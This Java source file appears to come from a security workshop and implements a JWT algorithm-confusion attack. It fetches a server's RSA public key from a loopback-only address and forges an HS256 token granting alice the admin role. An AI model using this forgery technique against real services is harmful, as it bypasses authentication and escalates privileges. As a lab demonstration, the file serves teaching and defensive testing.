package workshop.attacks;

import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Map;

/** Red team: HS256 tokens signed with a server's RSA public key (ATTACK DEMO, loopback only). */
public final class AlgorithmConfusion {

    private AlgorithmConfusion() {
    }

    /**
     * A4 · downloads the server's public key (PEM text) from {@code publicKeyPem} — a loopback address only, else
     * NotLoopback before anything is sent — and returns alice's claims with {@code role: admin} in an HS256 token
     * whose HMAC secret is that PEM text, byte for byte.
     */
    public static String forge(String token, URI publicKeyPem) {
        Http.Answer answer = Http.get(Loopback.require(publicKeyPem), null);
        if (answer.status() != 200) {
            throw new IllegalStateException("no public key at " + publicKeyPem + " (" + answer.status() + ")");
        }
        // The exact bytes a vulnerable library hands to HMAC: the text as served, newlines and all.
        return Forgery.signedAdmin(token, Map.of(), answer.body().getBytes(StandardCharsets.US_ASCII));
    }
}
